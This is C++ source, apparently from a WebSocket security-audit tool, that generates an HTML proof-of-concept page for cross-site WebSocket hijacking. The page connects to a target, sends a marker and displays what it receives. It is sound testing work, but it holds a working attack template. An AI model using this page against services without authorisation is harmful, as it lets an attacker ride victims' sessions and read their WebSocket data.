// SPDX-License-Identifier: Apache-2.0
#include "wsaudit/poc.hpp"

#include "json.hpp"
#include "wsaudit/handshake.hpp"

namespace wsaudit {

namespace {

std::string html_escape(std::string_view text) {
    std::string out;
    for (char c : text) {
        switch (c) {
            case '&': out += "&amp;"; break;
            case '<': out += "&lt;"; break;
            case '>': out += "&gt;"; break;
            case '"': out += "&quot;"; break;
            case '\'': out += "&#39;"; break;
            default: out += c;
        }
    }
    return out;
}

// JSON string literals are valid JS; "</" must not close the script element early.
std::string js_string(std::string_view text) {
    std::string out = nlohmann::json(std::string(text)).dump(-1, ' ', false, nlohmann::json::error_handler_t::replace);
    for (std::size_t at = out.find("</"); at != std::string::npos; at = out.find("</", at + 3)) {
        out.replace(at, 2, "<\\/");
    }
    return out;
}

}  // namespace

std::string generate_cswh_poc(std::string_view target_url, std::string_view victim_note) {
    (void)WsUrl::parse(target_url);
    std::string page;
    page += "<!DOCTYPE html>\n";
    page += "<html>\n<head>\n<meta charset=\"utf-8\">\n";
    page += "<title>Cross-site WebSocket hijacking PoC</title>\n";
    page += "</head>\n<body>\n";
    page += "<h1>Cross-site WebSocket hijacking PoC</h1>\n";
    page += "<p>Target: <code>" + html_escape(target_url) + "</code></p>\n";
    if (!victim_note.empty()) {
        page += "<p>" + html_escape(victim_note) + "</p>\n";
    }
    page += "<pre id=\"log\"></pre>\n";
    page += "<script>\n";
    page += "(function () {\n";
    page += "  var target = " + js_string(target_url) + ";\n";
    page += "  var marker = " + js_string(kPocMarker) + ";\n";
    page += "  var log = document.getElementById(\"log\");\n";
    page += "  function show(line) { log.appendChild(document.createTextNode(line + \"\\n\")); }\n";
    page += "  var ws = new WebSocket(target);\n";
    page += "  ws.binaryType = \"arraybuffer\";\n";
    page += "  ws.onopen = function () { show(\"[open] \" + target); ws.send(marker); show(\"[sent] \" + marker); };\n";
    page += "  ws.onmessage = function (ev) {\n";
    page += "    if (typeof ev.data === \"string\") { show(\"[recv] \" + ev.data); }\n";
    page += "    else { show(\"[recv] binary \" + ev.data.byteLength + \" bytes\"); }\n";
    page += "  };\n";
    page += "  ws.onerror = function () { show(\"[error] connection failed or was refused\"); };\n";
    page += "  ws.onclose = function (ev) { show(\"[close] code=\" + ev.code); };\n";
    page += "})();\n";
    page += "</script>\n";
    page += "</body>\n</html>\n";
    return page;
}

}  // namespace wsaudit
